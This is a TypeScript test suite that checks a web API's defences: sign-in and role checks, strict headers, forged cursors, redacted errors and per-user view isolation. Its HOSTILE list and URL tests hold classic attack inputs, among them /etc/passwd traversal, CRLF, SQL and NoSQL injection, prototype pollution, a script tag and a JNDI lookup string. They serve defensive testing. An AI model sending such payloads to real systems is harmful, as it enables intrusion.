import { describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { type Endpoint, ROLES, roleIncludes } from '../contracts/api/endpoint.ts';
import { Problem } from '../contracts/api/problem.ts';
import { SEARCH_ENDPOINTS } from '../contracts/api/search.ts';
import { ObjectMissing } from '../core/errors.ts';
import { memoryRegistry } from '../core/registry/memory-registry.ts';
import { TrainingNotStarted } from '../core/training/request-trainings.ts';
import { type TestApi, testApi } from './api.fixture.ts';
import { createApi } from './create-api.ts';
import { Unauthenticated } from './pipeline/errors.ts';
import { addressOf, bodyOf, EVERY_ENDPOINT, EVERY_WRITE, requestTo } from './requests.fixture.ts';

const HOSTILE = [
  '../../../etc/passwd',
  '..%2f..%2fruns',
  '/runs/../models/x',
  'x\u0000.json',
  'x\r\nset-cookie: a=b',
  "x' OR '1'='1",
  '{"$gt":""}',
  '__proto__',
  'constructor',
  '<script>alert(1)</script>',
  '#{jndi:ldap://x.example/a}',
  '%E0%A4%A',
  'x'.repeat(5000),
  '\u202e.\u2215\uff0e\uff0e',
];

/** The parameters of a query that take a text. */
const queriedBy = ({ query }: Endpoint) => Object.keys(query?.shape ?? {}).filter((name) => name !== 'limit');

/** What the deployment answers where an endpoint asks nothing else first. */
const ANSWERS = {
  listEmails: async () => ({ items: [] }),
  addEmail: async (email: string) => ({ email }),
  startTraining: async () => ['r1'],
};

const auditOf = async ({ registry }: TestApi) => registry.listAudit('2026-11');

/** What one role may do is the same whatever was asked before: one API serves all endpoints. */
const BY_ROLE = ROLES.map((role) => ({ role, api: testApi({ role, steering: ANSWERS }) }));
const FOR_NOBODY = testApi();
const nobody = createApi(FOR_NOBODY.services, async () => {
  throw new Unauthenticated('Sign in.');
});

describe.each(EVERY_ENDPOINT.map((endpoint) => [endpoint.id, endpoint] as const))('%s', (_id, endpoint) => {
  const address = addressOf(endpoint);

  it('answers nobody who is not signed in', async () => {
    const response = await nobody.request(address, requestTo(endpoint, bodyOf(endpoint)));
    expect([response.status, response.headers.get('www-authenticate')]).toEqual([401, 'Bearer']);
    expect([FOR_NOBODY.calls, await auditOf(FOR_NOBODY)]).toEqual([[], []]);
  });

  it('is for its role and those above, and refused to those below before anything is looked at', async () => {
    for (const { role, api } of BY_ROLE) {
      const done = async () => [api.calls.length, (await auditOf(api)).length];
      const before = await done();
      const response = await api.app.request(address, requestTo(endpoint, 'no JSON'));
      if (roleIncludes(role, endpoint.role)) {
        expect([401, 403], role).not.toContain(response.status);
        continue;
      }
      expect(response.status, role).toBe(403);
      expect(Problem.parse(await response.json()).type).toBe('Forbidden');
      expect(await done()).toEqual(before);
    }
  });

  it('takes hostile texts for names at most', async () => {
    const api = testApi({ steering: ANSWERS });
    const ask = async (at: string) => {
      const { status, headers } = await api.app.request(at, requestTo(endpoint, bodyOf(endpoint)));
      const json = /^application\/(problem\+)?json/.test(headers.get('content-type') ?? '');
      expect([at, status < 500 || status, json, headers.get('set-cookie')]).toEqual([at, true, true, null]);
    };
    const names = queriedBy(endpoint);
    for (const value of HOSTILE) {
      if (names.length > 0) {
        await ask(`${address}?${new URLSearchParams(names.map((name): [string, string] => [name, value]))}`);
      }
      if (!endpoint.params) continue;
      const before = api.calls.length;
      await ask(addressOf(endpoint, value));
      // Nothing of the kind exists, so nothing may be done to it.
      expect(api.calls.slice(before), value).toEqual([]);
    }
    for (const query of [
      'a[]=1&a[$gt]=',
      'limit=1&limit=99999&cursor=x&cursor=y',
      'limit=%00',
      '%ED%A0%80=%ff',
      '&&=&?',
    ]) {
      await ask(`${address}?${query}&__proto__[role]=admin&constructor.prototype.role=admin`);
    }
    expect(({} as { role?: string }).role).toBeUndefined();
  });

  it('has no parameter that may be as long as one likes: names become keys', () => {
    const fields = Object.entries({ ...endpoint.params?.shape, ...endpoint.query?.shape }) as [
      string,
      z.ZodType,
    ][];
    for (const [name, schema] of fields) {
      for (const long of ['x'.repeat(4001), '1'.repeat(4001), `s3://${'a/'.repeat(4000)}`]) {
        expect(schema.safeParse(long).success, `${name} of ${long.slice(0, 9)}...`).toBe(false);
      }
    }
  });

  it('answers with strict headers, whatever it answers', async () => {
    for (const { api } of BY_ROLE) {
      const { headers } = await api.app.request(address, requestTo(endpoint, '{}'));
      expect(Object.fromEntries(headers)).toMatchObject({
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'SAMEORIGIN',
        'strict-transport-security': expect.stringContaining('max-age='),
        'referrer-policy': 'no-referrer',
        'cache-control': 'no-store',
        'x-request-id': expect.stringMatching(/./),
      });
    }
  });
});

describe.each(
  EVERY_ENDPOINT.filter(({ query }) => query && 'cursor' in query.shape).map(
    (endpoint) => [endpoint.id, endpoint] as const,
  ),
)('the cursor of %s', (_id, endpoint) => {
  it('is one that the list has given', async () => {
    const { app } = testApi({ steering: ANSWERS });
    const forged = [
      Buffer.from('{"pk":"$dragoman#owner_lee","sk":"x"}').toString('base64url'),
      '[0,-1]',
      '../x',
    ];
    for (const cursor of forged) {
      const response = await app.request(`${addressOf(endpoint)}?${new URLSearchParams({ cursor })}`);
      // What is listed from names on may begin at any name; and of most things there is none here.
      expect([200, 400, 404], await response.clone().text()).toContain(response.status);
      const { items = [] } = (await response.json()) as { items?: unknown[] };
      expect(items).toEqual([]);
    }
  });
});

describe('the API', () => {
  it('lets only what tells nothing be asked without signing in', async () => {
    const { app } = testApi();
    const open = app.routes
      .filter(({ method, path }) => method !== 'ALL' && path.startsWith('/api/'))
      .map(({ method, path }) => `${method} ${path.replace(/:(\w+)/g, '{$1}')}`)
      .filter(
        (route) =>
          !EVERY_ENDPOINT.some(({ method, path }) => route === `${method.toUpperCase()} /api${path}`),
      );
    expect(open).toEqual(['GET /api/health', 'GET /api/openapi.json']);
  });

  it('lets viewers write nothing but their own views', () => {
    const allowed = EVERY_WRITE.filter(({ role }) => role === 'viewer').map(({ id }) => id);
    expect(allowed.sort()).toEqual(['removeView', 'saveView']);
  });

  it('names in an audit entry what the address does not', async () => {
    const api = testApi({ name: 'kim' });
    const add = EVERY_WRITE.find(({ id }) => id === 'addWebhook') as Endpoint;
    expect((await api.app.request(addressOf(add), requestTo(add, bodyOf(add)))).status).toBe(200);
    const subject = 'Team on chat.example.com';
    expect(await auditOf(api)).toMatchObject([{ who: 'kim', action: 'addWebhook', subject }]);
  });

  it('takes the last of two values of one name, in the check as in what is done', async () => {
    const api = testApi();
    const body = '{"name":"a","query":"x","name":"b"}';
    const response = await api.app.request('/api/views', requestTo({ method: 'post' } as Endpoint, body));
    expect([response.status, await response.json()]).toMatchObject([200, { name: 'b' }]);
    expect(await api.registry.listViews('kim')).toMatchObject([{ name: 'b' }]);
  });

  it('finds no other address behind dots, slashes and their encodings', async () => {
    const { app, calls } = testApi({ role: 'viewer' });
    const addresses = [
      '/api/runs/..%2fsettings%2fmembers',
      '/api/runs/%2e%2e%2fsettings/members',
      '/api/runs/%252e%252e/settings/members',
      '/api//settings/members',
      '/api/settings/members/',
      '/API/settings/members',
      '/api/session;/../settings/members',
      '/api/session/../settings/members',
      '/api/runs/r1/cancel%00',
      '/api/runs/r1\\cancel',
    ];
    for (const address of addresses) {
      for (const method of ['GET', 'POST', 'HEAD', 'TRACE', 'PROPFIND']) {
        // The Fetch standard knows no TRACE.
        if (method === 'TRACE') continue;
        const { status } = await app.request(address, { method });
        expect([400, 403, 404], `${method} ${address}`).toContain(status);
      }
    }
    expect(calls).toEqual([]);
  });

  it('tells nothing of the account in errors, and keeps them for the log', async () => {
    const logged: unknown[] = [];
    const log = { info: () => undefined, warn: (...line: unknown[]) => void logged.push(line) };
    const arn = 'arn:aws:sts::123456789012:assumed-role/serve-api';
    const failures: [Error, number, RegExp][] = [
      [new Error(`connect ECONNREFUSED 10.0.0.7 ${arn}`), 500, /^Something went wrong/],
      [
        new TrainingNotStarted(`User: ${arn} is not authorized to perform states:StartExecution`),
        500,
        /^Something/,
      ],
      [
        new ObjectMissing('No object s3://dragoman-data-123/runs/r1/plan.json.'),
        404,
        /^No object runs\/r1\/plan.json\.$/,
      ],
      [new TrainingNotStarted('Nothing has arrived since.'), 422, /^Nothing has arrived since\.$/],
    ];
    for (const [failure, status, detail] of failures) {
      const registry = memoryRegistry();
      registry.listCorpora = async () => {
        throw failure;
      };
      const response = await testApi({ registry, services: { log } }).app.request('/api/corpora');
      const problem = Problem.parse(await response.json());
      expect([response.status, problem.detail]).toEqual([status, expect.stringMatching(detail)]);
      expect(JSON.stringify(problem)).not.toMatch(
        /arn:|123456789012|10\.0\.0|dragoman-data|node_modules|\.ts:/,
      );
    }
    expect(logged).toHaveLength(2);
    expect(JSON.stringify(logged)).toContain(arn);
  });

  it('keeps views of one person from all others, and so many at most', async () => {
    const registry = memoryRegistry();
    const [kim, lee] = ['kim', 'lee'].map((name) => testApi({ role: 'viewer', name, registry }));
    const save = (name: string) =>
      kim.client.call(SEARCH_ENDPOINTS.saveView, { body: { name, query: 'q' } }).then(({ body }) => body);
    const { viewId } = await save('mine');
    expect((await lee.client.call(SEARCH_ENDPOINTS.listViews, {})).body.items).toEqual([]);
    for (const id of [viewId, `${viewId}#owner_kim`, '']) {
      const removal = lee.client.call(SEARCH_ENDPOINTS.removeView, { params: { viewId: id } });
      expect((await removal.catch(() => ({ body: { removed: false } }))).body).toEqual({ removed: false });
    }
    for (let count = 1; count < 200; count++) await save(`view ${count}`);
    await expect(save('one more')).rejects.toMatchObject({ problem: { type: 'TooManyViews', status: 409 } });
    expect((await save('mine')).viewId).toBe(viewId);
    expect((await kim.client.call(SEARCH_ENDPOINTS.listViews, {})).body.items).toHaveLength(200);
  });
});
